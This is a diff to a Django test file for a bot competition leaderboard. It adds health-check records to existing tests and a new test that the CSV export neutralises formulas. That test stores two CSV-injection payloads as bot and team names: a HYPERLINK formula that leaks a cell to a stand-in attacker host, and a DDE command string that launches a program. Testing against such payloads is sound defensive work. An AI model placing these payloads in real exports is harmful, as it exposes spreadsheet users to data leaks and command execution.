@@ -9,7 +9,7 @@ from rest_framework.authtoken.models import Token
 from rest_framework.test import APIClient
 
 from chat.models import Conversation
-from competitions.models import Competition
+from competitions.models import BotCall, Competition
 from leaderboard.services import competition_recompute
 from tests.factories import BotFactory, ConversationFactory, MessageFactory, TeamMembershipFactory, UserFactory
 
@@ -219,11 +219,12 @@ def test_evaluators_page_is_for_organizers(client, computed, participant, organi
 def test_page_reads_stored_rows_with_a_constant_number_of_queries(client, computed, django_assert_max_num_queries):
     set_phase(computed.competition, "closed")
     for index in range(30):
-        BotFactory(competition=computed.competition, name=f"extra-{index:02d}")
+        extra = BotFactory(competition=computed.competition, name=f"extra-{index:02d}")
+        BotCall.objects.create(bot=extra, purpose=BotCall.Purpose.HEALTH, ok=True)
     competition_recompute(competition_id=computed.competition.pk)
     url = reverse("leaderboard", kwargs={"slug": computed.competition.slug})
 
-    with django_assert_max_num_queries(2):  # the competition with its snapshot, then the rows
+    with django_assert_max_num_queries(3):  # the competition with its snapshot, the rows, the bots checked healthy
         first = client.get(url)
     with django_assert_max_num_queries(1):  # the cached chart and table: only the competition with its snapshot
         second = client.get(url)
@@ -241,7 +242,8 @@ def test_a_recompute_replaces_the_cached_table(client, computed):
     url = reverse("leaderboard", kwargs={"slug": computed.competition.slug})
     assert "newcomer" not in client.get(url).content.decode()
 
-    BotFactory(competition=computed.competition, name="newcomer")
+    newcomer = BotFactory(competition=computed.competition, name="newcomer")
+    BotCall.objects.create(bot=newcomer, purpose=BotCall.Purpose.HEALTH, ok=True)
     assert "newcomer" not in client.get(url).content.decode()  # still the stored figures
     competition_recompute(competition_id=computed.competition.pk)
 
@@ -258,3 +260,20 @@ def test_cached_table_keeps_team_links_per_viewer(client, computed, participant)
     assert alice_link in client.get(url).content.decode()
     client.logout()
     assert alice_link not in client.get(url).content.decode()
+
+
+def test_csv_neutralises_formulas_in_team_chosen_names(client, computed):
+    set_phase(computed.competition, "closed")
+    bot = computed.competition.bots.get(name="alice")
+    bot.name = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+    bot.save(update_fields=["name"])
+    bot.team.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    bot.team.save(update_fields=["name"])
+    competition_recompute(competition_id=computed.competition.pk)
+
+    response = client.get(reverse("leaderboard-csv", kwargs={"slug": computed.competition.slug}))
+
+    first = next(csv.DictReader(io.StringIO(response.content.decode())))
+    assert first["bot_name"] == "'" + bot.name
+    assert first["team_name"] == "'" + bot.team.name
+    assert first["rank"] == "1"  # numbers stay numbers
